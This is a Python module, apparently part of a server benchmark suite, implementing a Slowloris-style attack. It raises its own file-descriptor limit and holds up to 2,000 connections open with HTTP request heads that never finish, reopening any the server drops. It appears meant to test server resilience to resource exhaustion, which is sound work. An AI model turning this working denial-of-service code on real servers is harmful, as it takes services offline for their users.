"""Requests whose head never ends, more of them than the server may have files open."""

from __future__ import annotations

import contextlib
import resource
import socket

from benchmarks.attacks.attack import Attack, Signals, Where

COUNT = 2_000
LIMIT = 1_024
AGAIN_S = 0.05


def hold(where: Where, signals: Signals) -> None:
    """Keep up to 2,000 half requests open; each that the server closes is sent again."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    count = COUNT // 100 if where.smoke else COUNT
    held: list[socket.socket] = []
    while not signals.stop.is_set():
        held = [each for each in held if _is_open(each)]
        while len(held) < count and not signals.stop.is_set():
            half = _half(where)
            if half is None:
                break
            held.append(half)
        signals.begun.set()
        signals.stop.wait(AGAIN_S)
    for each in held:
        each.close()


def _half(where: Where) -> socket.socket | None:
    try:
        connection = socket.create_connection((where.host, where.port), timeout=1.0)
    except OSError:
        return None
    with contextlib.suppress(OSError):
        connection.sendall(b"GET / HTTP/1.1\r\nHost: local")
    connection.settimeout(0.0)
    return connection


def _is_open(connection: socket.socket) -> bool:
    try:
        there = connection.recv(4_096)
    except BlockingIOError:
        return True
    except OSError:
        there = b""
    if not there:
        connection.close()
    return bool(there)


ATTACKS = (Attack("half-requests", "SM8", hold, descriptors=LIMIT, growth_mb=80.0),)
